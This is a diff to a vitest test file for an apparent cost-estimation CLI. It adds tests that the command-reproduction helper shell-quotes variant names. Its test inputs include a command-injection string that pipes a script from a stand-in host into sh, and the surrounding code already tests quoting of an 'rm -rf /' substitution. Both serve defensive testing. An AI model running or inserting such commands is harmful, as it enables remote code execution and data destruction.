@@ -3,11 +3,12 @@
  * scenario exactly as loading the scenario with its `--set` assignment does. Checked here in Node
  * for random values (fast-check), and in a real browser by test/report/chromium.test.ts.
  */
+import { spawnSync } from 'node:child_process';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { estimateScenario } from '../../src/core/estimate.js';
 import { loadScenario } from '../../src/load/scenario.js';
-import { applyControls, assignments, mixProblem, setFlags, shellQuote, tidy, withDerivedShares, type Control } from '../../src/report/controls.js';
+import { applyControls, assignments, mixProblem, reproduceCommand, setFlags, shellQuote, tidy, withDerivedShares, type Control } from '../../src/report/controls.js';
 import { controlsFor, sliderMaxFor } from '../../src/report/controls-build.js';
 import { controlValues, pagePayload } from './payload.js';
 
@@ -116,6 +117,26 @@ describe('assignments and setFlags', () => {
     expect(shellQuote("pipeline.it's.x=1")).toBe(`'pipeline.it'\\''s.x=1'`);
     expect(shellQuote('a b')).toBe("'a b'");
     expect(shellQuote('$(rm -rf /)')).toBe("'$(rm -rf /)'");
+  });
+
+  it('reproduceCommand quotes the variant name: a hostile name is one argument, never shell syntax', () => {
+    expect(reproduceCommand('aifinops estimate s.yaml', null, ['--set a=1'])).toBe('aifinops estimate s.yaml --set a=1');
+    expect(reproduceCommand('aifinops estimate s.yaml', 'optimized', [])).toBe('aifinops estimate s.yaml --variant optimized');
+    expect(reproduceCommand('aifinops estimate s.yaml', 'x; curl -s https://evil.example/p | sh; #', [])).toBe("aifinops estimate s.yaml --variant 'x; curl -s https://evil.example/p | sh; #'");
+    expect(reproduceCommand('aifinops estimate s.yaml', '-x', [])).toBe('aifinops estimate s.yaml --variant=-x');
+  });
+
+  it('reproduceCommand: a POSIX shell reads back exactly the variant given (property)', () => {
+    fc.assert(
+      fc.property(fc.string({ unit: 'binary-ascii', minLength: 1, maxLength: 40 }).filter((v) => !v.includes('\0')), (variant) => {
+        const cmd = reproduceCommand('aifinops estimate s.yaml', variant, []);
+        const r = spawnSync('sh', ['-c', `set -- ${cmd}; for a in "$@"; do printf '%s\\0' "$a"; done`], { encoding: 'utf8' });
+        const args = r.stdout.split('\0').slice(0, -1);
+        const expected = variant.startsWith('-') ? ['aifinops', 'estimate', 's.yaml', `--variant=${variant}`] : ['aifinops', 'estimate', 's.yaml', '--variant', variant];
+        expect(args).toEqual(expected);
+      }),
+      { numRuns: 60 },
+    );
   });
 });
 
